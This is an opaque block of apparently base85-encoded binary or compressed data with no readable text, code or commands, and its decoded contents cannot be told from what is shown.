y@~xIx3)K*DS0cOnm8aZNX`Ort4mqJX^E+I@KV4xb}t$^s~(9^9sh-}sE#ND1Vs=moX+^t-=stb0F&YSk607{X-JO<YBTzpN_t4NKe`%^qmG#a2T)9TdnvP!h5a9K8=*YIgiWuhy;6ECM~`)A<RpC4!05Q6>RH&JM%B>AB^t!M$(gOPa3wG?)e@}ekzlvnvVb8&Y0(0{5BHPgOD7;@C#~ZNYUIiYrFR(^gz9-~h}4HGY^b!oA43bAotu-|Bl1|EPOT1D8P{zxGMPkQ=&$xVuo<xmBLbR5t}5UuA=f?L5)+0|4D>ClU}Yc)mR$jUu7{D!6GlL|LOtT%1qx#joJ*-x2?EHE5oHomO`!qr%O7C7+1JRP;Sy(L=T>h+!iz8KWTm48bb6!=C73M5C7?I?9r4k+8hGN+1#T~Y-7<?2DsE<e*CI@2q<ZRslA<RR(v))?b^x(k77*y@{=&I|Mpw;WYK$zsG#v@>A1sM7#7N87z9N71X3OLVy#UA*3@3<c2LC|5Kslo*%8?W(5^RyJO8vza4Fe72xwS)`%NWbJ+0w$6nbmy-yDu@3l(10j_E>3}pHmAmsNZ<O*(_cjX{`dA9cZHk(MvUETh9CJ!zun*LrIS0*EEN1vin~UjP6dFnU!1(?#RH1&q&hRghQd8WB~irEs7s(Zh_k}n!**qk7U4g{mv_-N64EJnGo?k@&Di?jfmJtS2)f_EKkPQ7eQul2pOzX5Um`mEQo#<d!)FZHM?E1Q4^a}uw}%M267P|EW9+7_&O6&@%zy$W>%0Dsf3QA;p<x&jI3I~YehM@BX$CO1gTqL<y_OJl{<8-FTJ=Ljgp^77m+Hx1=s!_cV@TIIL*odN?8G~JV%j8g4a`23f->v#%p;lA{x>KDzie9KDa^BH~Z<&ZmN#tKBj@<@I-Sg<|z)>{#QjI&%BJ8Q+tgx3ZM@st?}ahR%ND}8!wgCTla+YN{GyYYf2@<SAr3@vh{5XeXqW>$Uum)Ycn}u>kAHa8kr2gctdAh4_!pX)G+T@SCh!<%eIOdf?#?0L1e0W8h)uBqairSCLBbAR(h%OI>IcxEe=6?a7*??Ev5U8&VcF`HCa-Zow5e@Q0&x^);Ty|M~UscGFQ<0O{mLQ;V8aTm6#OBfo5ukApdX!>g=zGRZ#0yn9OeW$(XW+6_pVh9Z=t`oc&vfnT;WTa}bs;xYKozqf7+ho>3Wb9J(yAk~t+Ek7X%hRbjF$DH9Cg297VXbt!|nZ2cdsRBiBfrsyb7T3Ff^<zqxvN40jwvxoasclp0{h<yBr9xwrn*LbY?e*L@94-tVJ`HkI{^IjsMEk-B+0gboXTi)t7x@X;LeU=$Pq|c{68A(S)yo$5AP0?)2Z}Y9eES9Rj)?M@XypwM_`EW-_2R8;(B?gballo%MGA~D(+<ka_9=C_o%vJk5*L2)(30xh-L9umf&LvVmQi(EaO!zjJ?tWxwF_xSroj9n&jY@2lmC!OTt70tfa{{V4!ZgGm^7Y(&KL|3V8YQ5Zpkp6gCo^!b@6<tB4ubGH?bpf#L(($|T{^-`Y+7m0dhYiO1X#T4>ga`Q@JsusP!kZgw{lBSbqff16cUh!$euB!d^c4UFUl*y2ao1;$Yn);?}aVwXn(<6Gjb)hp}ZYSfRz|oz#Xuf(Yk3J9gWBm)E`Ze%)VN@WsTO|=AklhJiKhDsQQ^0{kA`GSTMLCNE{&sE|#53q18W%ff5@J)ca!O_y<iVb-R~cuL^Z6I$bW_h9mK|bu+|E@eYh;b{XdR+oW6fgxu$3cPfqm8Q`3#Zf5^)T!X+U^~n!Bi4R(=T!7QVO~VIa7FOkzJYkKDe~RLmOCyzJ23ef26B5EpY03^^Bc*Gd7L$^5>MXkoBO3JsFTY9Aum|89qK(cMOzrly%cR-n9OL)B&^uLB?cDd`K^W`iOO)Sg4_75t>M>2d7L5oPL6`8RsL=O`iY#5;hM?AjOaDQH2`opb`5Il68P+lOFdhagJ7jA5)V=rWS$<>T&Ni3Ns^4mJ3&`}hh`)Du;q$z@2?eTz<3E1yGcM@6u%)?cgVm=ycMD2}*06<VMsUg24Q>&TaJ%f6Ko7(mJ%^;EMJ5~*4_*TAfaa>AbscC38xgg`i<CEo2<O0bauG1fA}q22qd2}2tAnr}AG5yHy5=QdP77eshiau^U5I>qDA64h_O|ne2{GLO{el>L^|~k0$d1ab>_Q124W+}{SjG5ob~lGI49bHmH-r)9IBMG`a)8zN5g$t8W&Q^YoZRYK(1V>$#mw}1c`g)=uGiD6vu*$_sMVX&eJR&qW!4eqOfR~1#f@w@6(gKp_KGAFxMz?;Uq%#(BCG}Rjfx{odz)0emmoCaj`+^&kU@GHNPS(2Sb&aqHP%V<t^u=~HJFM0bne|bJfP-&rc9A06Bd(7T`P$5wWk$gw4o1mX4k7F*JEdm!FD$QN`uREV`d~9)%lgA(Ws7-cIsnTOz1bZB^O<Fa@;`~u=sTp^_K!!`dGWTt>+~ThXH6&Fg_LS9-hyj3^QDd*S}3txHgg1AXMxxdbOP4Xcm3S(Rs4cKF13=e-Ch>4yYi211TPcWBi~papZ`$-`w*N1oQbb05Yck0F0c4R13{AWYh&1IO7j;z?a*4i6d?~x6Z_27opU8;4SI|O1Xlr+&x&ZsidSB3T@)UgT%EwQ7Cz4=0j0hs8^44rS*54je!>v7s858F^WBS<*sQgsu;@0gnqsLuTLs!_Q{6S=f$0s!@>*-Gst?any`rYt=x7SnBgjnApTc`5)Z@YwpLL(GviJZ``_>dFm$wWqx!w5iV7Y6((ci3anckA1;vT25jYb?EChr7-D<+Tka0yRpWt3EvoQ)nyEZ`oeGGkkn)*YYaK82^l|9R-D<dJ-G|KQCF_j|Z_qo|v6xgphU0w`O_*|145FfwoVRMO%ZQeQ1B5A!zswEZa+_RC$hP06cM-Y{cKu}jV2!h37YP)M>S+%;?GKf@tgp)9yG*U7KGqMS_T05IRw{Mpzo|N}>1sfOyw|bsrDow0Nl~&Beh<-?CEyd=|R!Dyop@Y7$oyLR;r@nxhOCBAw0cKM&%zJK)N$**$K-V_prc4;jWfemgS<e|z4s=CmEWlVjUD8=Ob6E=JM_iW%cn`909A%PMnA-(x>TIz8)l{)6FGbt8#YT2#lbM>OR~svcWy-r99?B59*D}U53%sGNHbxz)#Xuv42=6kSV4U65y^tUpuw-Q4vp}^z*kZKvj5$Fldst7`sXrcM2j;f(Hzt@bD5Xj4X04=j3Ashd{qMDiwUz1JB*{}Phf(`zx+@A!Z&w0q&pNF%{42?C4tT0`EbguBo3u28%J)jC^@##XNWCl}DZ@9F;KgvecBk~jva%@}wcLO;;Zqf`rbX(~c<`w3kv&NSF}vmV@<t6i7JX7OKTF_F=#O}r25}(O)<Yk%kgXzge$=Q9`H>EjUj94CXa|R^dkjQ$)CJVZSP56qFiqA~E^I|xG?;tbCD1ZPh1>2^X{{l|BA+Mky`Sn3^|0V&*1;-fR{gq@SY{x&9oUIl@w14)1c$xp#a@m@V3qxqWnnQ}`x6O$E+>p?(f~sE4&`6+sVRlTI5G7<Tnt{He($5PA2W%_6ndDgkTKK!4dB1AY_7=41!Zb*`k{Dz7F|6zaF1pxE|>5X`ojzW-?+Ou5HI^nNZWfmd`Z<S<(Q-v)TmEQ;5TV2q96a5>_Iwn$lbg~WLabOp{zLdcdK3ZRZQng7=U#<)B>?0!_6k0aSY)X|AkU22qjWIv)dSJC>rPorZh_%CJfvt1!X-x@822Q#X~{6TnaaGquel0MQOf&Kpk_P3yJd0aPlvA3chTn?Ybx!fz?kS>RQdh+$|YSIvH@l<Wf1({$f+Y|LCbd!L#NBPWJG&Jg?Z<$W1OxtD0QK#G%!_?a{MuJcAhd6yy`8Jzg(~c!%fsxPwAEUwF!V{UyA#T}jA97z^+Q73F8tObroVZzh54))UEa7YJ>BV0eHRjV2VVcJ}T`+Q?*%$k0F2O-0#{B~Xl+l|B`mGHe!A!a~@6U_$3O4a!pj>A4p($=v+0BSk+R2jRTT%(7ZkuC=f2VJe_j>VClC#KNSTtkNuE><Kr3Z5E6OOsp5})@^q=&XRRNF&j#Ft3l=C3D!pJm1FNpYQ84>6I<nM^H=V4p|sqwUIT`M*r~XORykEDLio7l{H4S+zgJ-2SFJ0L-mO2wO;~Cs!4363q8XF`EF`nf{Fd)aq2ues9w|s1G3#taRMiFWxj@^dW~n5x*&JCc6ay#VRT&7t*OX1a8hI2_J0FAc>a6{ck3}-v%ea7*vsbA3$%$P~8rhDDPgdV{YTbg%4`q5$L<!hzO!yND5B=Mq<dR^fpGfY1j}zFSn)B;+#7>f5h>y!Be<s;f|9<<5pcjZhBSMR=E3PUc;MttPq}>Ie_`Gy}qGLqdjdRd-WM3Mn7uW@W0~SpE(m|sVA-l52WYUn~7*RtrWI-rctqVR=F}xF>X3s6;%Q`1zqC_Z?RB(${YtR4yMxN{tnIYbYv;ZtN4vVvB@&8~Mxe5{<_j%ym^d|??Gph)Yx1JnD&(hr8oE84jkt3zuKKaIrg8^8)dtk#C0C!m$z#RmnHiT%#ZqmRNE}PXe`Qv{C2&mG$G9Ji=*Qz>@l<O<lrUf1@B1LWlrJCxmr9fo_xXvBHv{YKwjEOG@?Sym|>;;$M_+R@;V-SR54Ssr%IU|d(MW29gsXn)J*#GX7tR0s0ql~@;S6J@O<ncZ$l(;cZ4)AfQ(D-=xYhX4PB7O#25^bi5C^-piiUPvfkMBV_FQBdf`LFu$&V_K~*rgCzxq)?Z1}T8-@ANrO7=aQOEMKxdRzV}aG=UQL4*>3dx`M%<{QcIEGE2cY?c%wcTe%@}mEE)g6IM)uV^H?ta2Se(o3N%PDfUT@R!^IzA1K2su*pdIeT0K}A61eiLX%F9y{}AsF&6A*51Kj;L=@gq@(3oi{2f&CM|6zID`Q?K5dzxAp3ky>CZN92Z5xUDHO-Uh<QJP-qntRc&ZR|F!|(&l`D>Oj@cB%n%`q6c_*NdnCR~3ox^s?cY(6L`_d_=o`0{Nu$4Dd<oa<mDCOuX7=bFwsbt(k)9X_@)H=!*xD-%^(qNK$NL?ogwx8?#Ys=@v&dNOj=lm~IgM=kkt6^Ciw5@X==Mzypf43|MOp{WHmc7Se0FDVy4<Tn#GvGYepLn}C<`A)(s%mO#y0ruAh0us4h43Ln7f!Z5*)-@)eqz20AR2hVP(EC0?L6whODZpiW3skup@MoQH))Eoz5?NlV%h6TK#}P9mIZM`Z%kP7Wliq=|=^WTgtxsw-f6vf0${FBG-iRMK>cIg_Lz)}Fwi-<JDw|aG9vY4CJgyWHj00^>m-=*Kf8JExWv^;H?K~etY&Z-dxRer@Y+8`B(bJEBk;2*Qe`6{h?ZIY`YdUdg9mzp1nuAQcbPP=yOVFw!tK?+K^{GOnYsIa9R*si3)6ar}8*auZ4}6eRXzNY&oN?)Xh)RmQWl$bD({#`WM^``6nTqthbRJjyo3xn*+1=jP-U4}c_+PdqD)S~ixqJ$#;5b>Oh)rCHwJ66?OC;ygzNE6QjlEK=e?J-~@C*kATUfJr>&K(oN{ENi!C7;8OC4&#Qph$PQNrN-tKrWTqgD#29y+#}%x+;JAdrM|Wb?um@}R0U&K!DiSd<aau3ZB2djELf8?`Q{P~#xOS;DEF)aNd#Ru;!grNvWPAmNgoan`DPRpOFp+Oxzbl~5Z<ew8LO6<}33TwFT9;Qu-Lw2R|H0mhx$1-{gV4$C0k(dJ>DTAkor*Fl<0iI24+VZ{dwI1J??f-0D0@tQSUO-UA#DI5O9qcYz$B<rIT4KC|t6@(HIN%#x5BWDtQAbep#TqLht@t<RU&_SFxHWU7(9QNmz-|z9p7Jdt=DMZaoWE3yDU|6@gQ?FL9KIJblXe9&FXtV+<WI{`ppF1&4za9zafi4^0K?~x{*CPTVxuPDvAP#^CdZP*_=e2|aIUh-4MC0r5Buh8O<6rjMZODRc2Q_^0pJJRk_iZJW{C}R^t0dhhp53n-GNm&?U7BMH!dG>^TUl3anCe^c=<MA&4^>nc!&um#yP9BNN>bY=1Pp~lBig5I;$W1mRe29lX0gc>G7s)9ziZhmc0QPj{QV7tW(Hh&imt8{y|@z)K&VuL`5i347%-jGRoU7H!5xUF&8M8*Vrg?fda}Yr%cKyfu{%qa2Pbd-XxA7Ek<Rn|47|>_du|{}A|%ko!MifPp(EJgmDFFhK9A4*itW1wXP{$hTpaU|J58FyKX`&}NTn*Ow}R{maP_hmhizQF1Pv|m&-q0rIVOQ*3{Rhra9a2D#jCkKl5GyWjb{Abrem-Ssey6YkU=aHq@Vh>pr`unnCgCL(035G49`=0YdjH#q`I0|b?_GAU{c_6miX6?PQej_fU8HcDW4<Np9RBfb43l>wxN8d@R8q~hGt9ag~)N$l)A(w$?jdsR-@O#FLDz4i6V_w4zwNv-0qEM;gDdR?}FXpKNb)UKI!RkYfR5w5PrNL*Lv44ngSLE%M1^5sOHKfQEslBED~0E=l_pA@v_Nkm>W;<L?p?pYr`F?QLKc_+QPk|R8%8-a-{g-Fq!VnCZQJGjN_%QK(_N{GYHj}zyJj5MFJrk?Lo$ml4~~+?e2zJYxLSPlVKk)%uND~6&4yfZI#7Vju*6}z2bFD;Yxmpx78x9P+>0Hkex`i)Yf~n1$01d()S8ygxXg=`_4+vx=3i$0<T=`#4$?4FF_2Nr6Ze@YNCx=uojS*Lo?C*;bPD{d~=~KSMdEOd*l!9+b@_&0t0Fy?;BxAsBitfVwvR&+Ykez5NNVQF>+Zw{c9B(aMsCHt^}4#TdGFeVe+;8!u~3!=+&1?7n0={IqK<yYmr8b!2Dgz=hPNn`m3a@$tU@+97TR&V>*J*6~Q>%LdFn}K3NA3cXL1&HLDgh2D>fSs2LZDGF1`^jJdV4i{ho3G}SZBh7T^N*=9CiS0e-yb0rmq8fb?I6>MZZ<I-N5a$TWb;7#gVaZ&$Pn<VF0?#`L^$Rj|BueCQjl3ro70yOtds^}xbmf$$^c{X`<`h;y^kRDD!Iih5q)S|BUxlh)PbONUmOt+Q(4hD=l^V$${#2NtHbU1#pN~P;zu~<3}fqA9F==~DO*oZLX#M9=6Ok{J~iTe9Z8`hBnTho!7>ysIp0W!z^@TmN2dUuW5gBByJlA&Tb`hyN-<#o4D#i@08blD&b41O?XylETQyS4Lsp=xr8lS2Qd(70vC6YUS>){0J=6jCh&T>Rhnjn3fH>Sz-&Sen-Ad3SB?auCa>^@GI$-;Y=N@#Z+l7YJ;}E$Nf#xD_&Q?J0D5KKV#bpphVC4_GLg!aN_)rR>NX0ms)_*JW_m=}P@&V2S=;dgQI|TCL*ET=K6hWmahEjQ3)jkv@nK3PT~<K`>+l8uqTHoxkYqpRrLUtc*m!6B%4zCCZ8Mk4+6h5I6_VoaL!Q3U{!UiWMRb<Kv(bM6P^A6_)FAukFTZKWx;<y<|=>otR$Qw-19^zKFntiI6F6PDFymWViYR(w6rN?W)QQ+S6XC4`Zv;)DO|KvY^xg9C%IBres|G^tK1O25?j_yyLhX2CrUhHrQ%ODmO+$iNl+I1fIvU0_a9Z)1+~J&H!{mtux}BieRq5+Pj|gy72*9pCr*mh>S0=tFXm@R|h{10B7q$FpGJ<vEe(mkfiuRPiys<|M&fVqSrz^vS8~zmCB8;@$l8A?l1a+R}etp8x5H<SGOj<z@4s6VVg1B4n2&!oo2w+Mh=k88Mqu#RW{jY#i>As`n4aNfj#?2nWa+e8;xLZEB18bLFz_c8rkglm;b798qe0lu6%xGb{%0>QD044JU_whO`k^HeftfnA9L}zmd(giQsR5_UHBh{(Sh9rAIiMiGasuTV}o}1{o2eGV3b^dsXr&((9FT38(D8wqDhyJueyA&wwWyBi=tubxM6r!!5RBXID=E!86Q@^rF8CMqc(jiEStwr8IT?er9xNsU(uvAV$K-7x_E<T6pfO{C&4%7Nz6p;D!^wd;sGmz?G|SH#XOzc$D^ZGxOU}izST<ZMl5?BGBfGDLY(H+uB-S@Oj<Y!5J8@@^hH*rv#-1X+^bUWcOUW_OhC3d$BN|s-^%H!f2q$87o<#urS6Ia+f?6Tb|dJ5zQiZ;!oS1!%I)^k2${@`;q$t`lMH*x2~9K=)A~k{W!8detie``T61jlAn#KIYN0i&Bwt}vc>%Q(a)+R$1dB$-Y!norhm_bahOBYuHOLm1Ator9!gBqSci)aeD`p0-R!_=p`UU1m`-KW0uU=KY*JMz#Mz+Z8&BVgn&>kUMMeh$)^mpCVvY=094HEl7k`8ZZsYj8N#%1(}lF(U&=3<(Nns;$wiY6P$YJ})9BIEokW}8Bikc*RGlQk)^ADT?s_h4qQnX|c1#TBje*cIG~idxAZ$=prLu#`Xmk(#lmlmmJ-MdV0KI8w@uOs0C4NGZw!QtBT%JR<!`;hZ54f?Vm?P}r^M;Tpq0ESwEjeZcfU-?_}xG*3F7i9i9fwG1fy+}@#&N8!2MG)`;5>DgD>LGM9Q?$43z7LlsV_su|M3a%+wx{cVWZtZygVJF27scCx?rLXebSTQ>4gKV!l=Fp#2Th+i|O)~pzyc1O}>g*oneu`6wVPF)aWWMv0Bpj+?us$4mjSu{@<#vXMW8Uxxj#B;0zAXMNcoDpgBUd+7&oi}^noSnEk5k9OA=@*qsyyu<jc4#RHjWD2O1(k<Fe*pwqBG!uLL$Z5_Wm-ZX?P$?=rhgH*W3YE9JCVyMsG(RRp}i@v5O?pWY6wy&}h?dK==Ym$ERP!@`5k?=!p@Oz8lI0MrHk|qx9HHGIGX^CpJ@b-)d1Bjk!lUYfZu<R99|3@!}M?h`3flekLxB%iJPR98xov$u+j%|MAxKf0$IG0OQ!&0Vsj%kNXL0e|wONLQCxS0HhkI0bASMUJ3^OmXTLAaGc*mPCMkI+d}oi`m3uJ0<Z;40(if~qxl4IcY+`+{nqYrrYyn{UeQxwM3E*6${NERz(V9dwyQZm&vD5za^1sUOE}rrw@-g4;lD&A{fl}QNA8*+P|&(r7Uc=+Fb^o-QN@*0eF5hrbF7D!Si#L+sj<-qIVcVOdw`&;PxEe_d=|1zl-6;-UjJO*9I*F!uE!sE%y{$Ttpg+v&%1eyMT?tP9usT2UE$V;s<~8ZyFQ%G_j-?rQ<!L=x(uR6nCLGEqSS1W0xo|zG7z;BQps<`3JPUVhxRX#86RYoGnYOET8HT&!WFY`4}pumz)S_`mfH%EP`1aZ*mYi2Qzw)MXyG;bIUjb~k}n1K8B0e+tlst)3H>P?^pj1IlGR(vo+jC}7<&K2*8~cFm0qqxL6vOJc=_m1x*Qrh7^6xh`?r-GF}KCHsF)yTB6uxHC;$Z_NFMK#RO%-dp8J;~56sDx>9}tf1)c$ljnTUlUMd5x%qjDO3EY&dod{K|aZNtFT%1<kz@A^j2aXu`PGLvTPU(UdO2sH42Z#N6pS}iyZ~A67<)<s&H!C5fgFIrEivuP6x7&w;f#)UrskT&<l1;_9-CJ}-A8v(|3=Is{l~^HZeu22QkkY)@h~w?YsW<tJJ3(6tgXZ?(Q4vOZQylefB0dZ_9Gg>f%vS!1VxEPx#rXJhCZsA^N({QV^KF-BXWNX*cm!AVw8J~`p8Ds|9l%2kanm448<RKsNwQ>u?h=}YGy;5ovB#lR#zkD|1X=RR^zR-7vQhyWoX>655Qznb#TE(U0IPR$@}Duizz68-zaUPNZ$k~6sts$93SzV+#E}2Pn?lh_e0$BS1j=2PL`kGqL11ysH}S#c5Al)twTe0S%V&(wjzpcjYZIvlT$=w^we(Qw&xtyKsLek(#+tUMdTa(NnD+Sox$iik$3M=VXXbiUN4c^pZP>%Z#|0-M>W50m^Tg@WZ&qF&Ps0Z0Ut%l(;`(Sa`TenPS}|{?Kk%p;zo0K3yRk-4IXS4+mEg|156w!H$+ekUAz0h1ol2|t-)d>1>C_1WB}d<c`iiX@yyV0EMcj<aRL3DbM*b4x@tHJlQsqRS?jb|(27qP6sl;Yp(NFGfC}sn%#@j#gFK1D+qct<sUJ>DQ&)f;DWUw9&Z&X9<teNYu%#a9tCG^u@afKY>G<{st{ujv-OtIdMKC_5t><#Uy^ROm|vIL+N590VN2A9rTQ6I`#&+)N4&B4iqH@sWApmu>V)b=B?Tby?4fR2}%2`a9<UH(&*ggnhS1r5_gOpUYO6~k%QlEZW4BosPSS+7k!9{J4xN5%KT&+mQ_7v;JxH1PW<3yu4+t<YgT0qyd_r<sa3MB&CLk5~6eU!qVCPMM?LBLQx|?AD<`ySmp<u{d?ND3Cz=7kuYF#d!A=@{$!t0x@FC{;n6kH^s*kSMCk5c{}zCnJ&;<_4)2d^Z-z|@^SvBURXI%&=IdjyyX_N?TfhR&@SZoT!LHffSzYrp=0!=XJG)=y-gWpJJqa?4j{eG)Ja65S3&3qWx~5Uo;))W_}qyFN21FzNO6F!YVETyy$95*UVSv}w6JVZ>XB`vd~&X-8<)1)Q2lKFyB#hX>{PUyOIBbmTmd5BG`gp|;tl)NQFr!W)!hDS%5f5LiVqFon2$4Xd6)PGkRZ!6r#*M`uuMhFU86W>(Y@+={>TmGIWG+=h@6FYdZ)NEHnGaW7`cJWmZDC?Tm9|HYzjx+gNftZ>H4aXQky^H-eA`IyMVW+hOp>9Sj4fSr4Zc%Xz+TqV5FN$xMAM!s%m$l5XbL5NvBP<_3&Jl|CsX@vFOGZjY2aY<LRWm@h3wO@Qf|U&HAxj1ImI)7XyJv(3vEM>OUg}v<Q7QQ_P$RmLu=}UhwHg+Wjfzrz^y`;Gz`s752}v!UTR}S9Bt`I@rc4@xVfS9O#ExOc5h!!f5OeKWy^s9w-V}<=jJ|2~qEQJri1*B(;-!5VT?UUo|cv&je1d%qnE=NZRX=!Z$Mivufeoy%m-3NpE|OWKp5n%nU%t#o0W3I$}nx<a038JQ~9_>=6X~)s4yqNFX$T19e}u$+QmikrCpyULF5UrQzW+ba0|Cb?5QSrX?lx71R%lHv<<z@l}Uv<%0y?EoLW|*~8jdH_S#oeLB7Htv$?8?m`Qq^-Y(AM;FPk=Zin4zYK1}m{cU(%3fX*{*a*>ykgSYsn_c3S}B8v6UnU81<<Bpm}8U&ldX&3u)=6YJvnvk@P7`VmMc_fQ)Yw^Jk>z|CwzS~%5mQ;eX<HGkZ@#7!s-0723^ok|K1Zn+JxhyNcwCsb?aKGTYcERE3BvHO~R7xL`4d0FyaJJLUG%b@YY6}=hP;yD4J&yp2YI;K0aCHAQdxe;v@Hpar><Ga(I`Q&6*w5Pbr`@6H@P}FwyMrqZ^m19d0E=)*KAr#3JQXr~Of!n-i<m@Gq#~ST^GG|61lnIUL|XGOZ*~g5DXRN5}fRCjl=trSj!OC1*a91%H4uiG5WnVN?3X0yj(98MbbY>J7JcROIWEeZxiIKN>4Kb)=N>zQS-fNh`e|%siuXaWwB#DXx$<PX(t+%;a90vHA5+OBag1>Nj_#UVe1A@C)3~i@}2=;mM)UfG5ARp!~m|gNG)bTHk^Qr4FczDCHqZ-2)MV&X??b59{oMNOh6U|3(T)Rull@i2=OfLmDRERgihXqY7j0>zgqOUBoqd<^9MJRQpKOSh~}im8%2<feIL8E4oCl891KRkFZW;<vzy;Aoa*mk+WOn%=?zUHc9cq>q~xdpXXrakC6dm;Xy<v2YvLTVhSE-t7A7I7&y#3ms*O)otL^H#1pZyAq)A1kfXT&283Y$qY`Bou$Wy^z{%t&TkLUM$Pt>q|Kf@Hy8IxxVjzUz#}bZ!(%wOAOC8|DmtoE6Gm989BsoFq`2(Btl8e0(;)GhXk?<i=rOFd$oo|tS(^^af&iHzobCW!(6MjTIZDU0NPS}wmBjgiQR&2ua;W$lvp)Q#y(r^ie&ANx?HQd+rHz9Ts(-ek9G!XYhVbb_Ik!al!hi|ukkRNFO%C?3y=K^e&viL}GkMe<kTY>;FY;;V9tgJam!pIiNqL&p?LUFmLY3s$-4BYg_n2rY+u2DAj(gOCo3ZtvrP9yCm(ky_)J2M?d(HKEt<?p`}i8@Ikl*D#FQ{<x<;7Q_SB>LjZXKQI+Vg%svwUlSPQq@-OFNF6P-_h2|I%f2RX@t_JM@+CL^Ifm^yZsDe<U5pvJmDM_T1oI&2_I5G2ta*Jf*g8jHP*lv+56+PRL$y%HG$J{pedu+>-N_N$v~m^&6Md-n8m1M>`{%qhE_62j=OD<IkD-&KP8s{+nusGctnq6KRfh~=u|gy3)J&|og`q$PqRnHIB{UjtPy7s=eZ7EmR-j%C?*yTQ8t6hjj&%kl0{L^-3xDv@Ywh0=ki=B)xG~Z0m#Er<i4`y9{wZ8R!U$}v%wxm&QFzzwSW~W34~xkYlM^Zk)3D6C?c$2T;(`Z!|ur*`Ptg-49TbTlg^z6#s80tEK&WW5)0XNQTJr9Ac}e8Fvc96G_f64(O0Fo4r{e%&@?~odHbON{;j<43g)q=?2j)Crs?N%3J~vBG?t}jqXX5bjAddzfCzZT0MpwS)WpvfE7o&`ygU+wWwAf&0FM`x^OxyU4Yyr3g9>G7#Q%??^_739{&Mo=JI3*1g7R%ct9xGK)QytN=lvY-&zGaB?fvfSr|6=nt5Ez~wgYa11tDjah3P5TRD3+O`nZ0JK2V07f35WN7s78;3>`wTeCXKGRYOcYhEM3WYpql?>?LH{F$y>S7g4JN5`9$OnAPfQPdkBMxmH=4bD#Cj<<v&yYj6GxKDb4+t2>bBwrLM&{!)@rTA$)>rr=Y1@uG@I!CjHcd59L0(bnZG<GtXodq>0xC6gbj8_lSrJ9ZFYNf-D%g^pFnDDj9O@N(3OtY_NRk^@x@=<{r$q4u$IGa^)+;_i#&B>iya;>%L83YelT@RA&I>N&}7Wx2S{B6|`W0%+;cw*-O2C+)k1!>*@^C?;{uRfiwfMQc}0+u6S!hO<Fgi~fuRjEo^})E90@v_Y4=G=p{YGcM5+_=JTFlh@N7Ofy%av+J?x<{;IN|1}ao(4O3;M!RIqdH83fwS*8CLn}wbw}Kc#0PB5^BYlj9Z61V!sIXHoGr9J{@Wn=qu0AboZ2+4DRItO{u7<GQc^1vKr^+^NHrkmF3}pf#%)#Wni!K#&V5-oogYWCK`oPPedS1ZirkS+fC3x={{(aQCR|gg@n%mpUIS5+eU4G<B(%M{1DV=r`ia+dvjqnWhMhmmJpcY2|a*RZ}Q99{&K>f2+)Hfw;XkKl`y;*?VlzH6(1!NwUz4e7)_ML>MR?VT}>;TOmHbb?i&r1TbPAefrrzY;Lk7eGR&!*b?FiID^Lk>0Zy;ruEDhh@Tj-RTVn8An*#IG+|;?i+Db`<|%9rMc_l8AW1bkQjPV@g*Q^GDlIfX3pjd2+6ecCKuA9XZG{s|#j}d;ho+RAJBAp>aZC7-2jYA?_c)wdWOVISU@DK>C`=p&8vAHp9V^q}7h%_833$sty{kG($&`Y*t+?9poPLhRq|ULbq8<j{U5G$xqDEGh}J3>zX58e%#06@Tm(As!<YW?W`$vP=`_~(NEtCN959ypf0)KnT0;GAP8>6E`Tx-i(KeoyKZ+}&H<%`9KQG1_1s`_hId{qkd3}yF0I%rY(dom+!of)6rAZ6G)eYbp@MgZfuUesup|FIKm2ocxo^@PU5~BFb%cbe3_Bm7vCj>@Cmh>XILXbGiS)Y$e{$BCF(0pl0pi9TL54sRA_TuEF0X;wZdK|Kgzckn`LIKFeKl|Ncr9WG3~2{#4qNDV!9|gN?p}+raA3h8FQNl_hrHzU$%jG>_Tj{-x#hbhkNRB<D1Ss-;X4V&l<@b7LZU8NqgiD_jK*4n0t+*$wI3}&^T<KyidFx<WVA2A=7}p;^Eds%1o-Z`VD&x<k-M<qVwVjF57YmUatuNzD=upxI$d!evGS!5Z&bYi!8pop>RBa!KeX)!voy=0R^n(dkTQ`i0GDQ7X_zdVCu)*h*hCViXlkF|Adp$aEK@I)B!VXK3JeowS@2Fq6d>X2$M)btU_I{*WY0Fcqpgd_iRkV!mLN+GC0Nu~&r=-eOk-W?5Wd-wpYlQ@#Rq-g`R$XcZb%fnx)=fMjYX#i*1<i^%ee7w8*=hpX7Uu=RHjG$b6i!Mx{VLKX-&%W)(#KCX6xIF`A}S$h-~1|oFDw=_+)v0C+3;v7%IjqSfa1}7SLhB*prj5XRDtg^+uV{nx>8VN4K1N<VMdb!fsf-IYwG7wLF^e@&SbfYs<TCsW!Rh6c>Zv@EkOS0j!H6@^NUO^RCsVWKYuYURoMq0nWYv^Wi{c@YOO^&v?j@cvYj3lGw;{bi?4_A!&=q!d!N0u$m`zOYUq!@gUtD9;Cgx_Nj(H;L~LkQ27m_3#vBvEye)5>Cn*NsQT=&cwq77AUQwZzVYkL%25*1SD1!Am^Rd*y=gNqfm}%PXt_L<Fqs?WI4jaYQ<RFB9p_K)xv7_^iktau==VU9@~XYhSUqV=00;lYCRj4Yh~Jq?;PcNFvV}0A%aDYYa&8=w4gpf+5ohSW5W#L&qs3DzIK)~fr>>uyT-1g(?FN4A8x05)e6UQ(UM*B+l7<1klc>Y}7SO-t<Gm+>CR}&k738kyvq15t&^MiKFgYHBT!M>XEkbW`S37chSyQfkY0InFwOKgvo35FNlnP)w0KpA;)nV;P{;##i>#JXQ+*}`@ax?k+<m4xb<8UPcS|cb(zu&<%d49D6(8R{T#i3Q8=aY@qg1%ps2^G`S#*Ww_!9HG0et$*K{r>ha8}&<->O1%w0w}(ND4;z4reDJls_Td#pH+-}bt75p4vnNVDfcweenO7I-;z26dWv~<E861-?A?LFYjsRxyAzDG_DEuEI&_wnz7sv>O^;`oeVhj!U4#_E9xiV<c>P(J<@{3j_-SqEM}b*t@D78Dh2OHW&&2tgVr|sPanY_W3<V>NT)=G@CAvYp_;x58f%GmZJJhqiX$D~9S$Ox`i|7k4a#r)YSu0YVDmc;>4H#SO^CZOO7V+i~LjO%4X%9k1pqrok5#$4(LHIW|S&MX)$mgko^Ej>)R$5Us+)-nF#t+`>3)(76IMgf>r8vSy$cl4!X$gH4niM+Stcmoj%q%1JPNF?QBaZd2JBO;Y1o0-FX_?1W@N3Kk7%16GA{-)lJs>>%+Z2Fe&6;EvuicOA*6j(Pu9-X4A3IZM4gFC&GR^xr39}Y_L;jX@s5dj6$@!i)qG|T4Gx*It2q6)>amZ&_#)HsO!3NUhtUubpyADQ$<p24t?NJ9(NYv;TP|MZ9%)N*(5uh{x&!?9tx4xz~ERMtf2;*uvdqhDGkNsnb>SLZYBuf6;m`U93=wY;LdGXsdRyg~uo`kfhY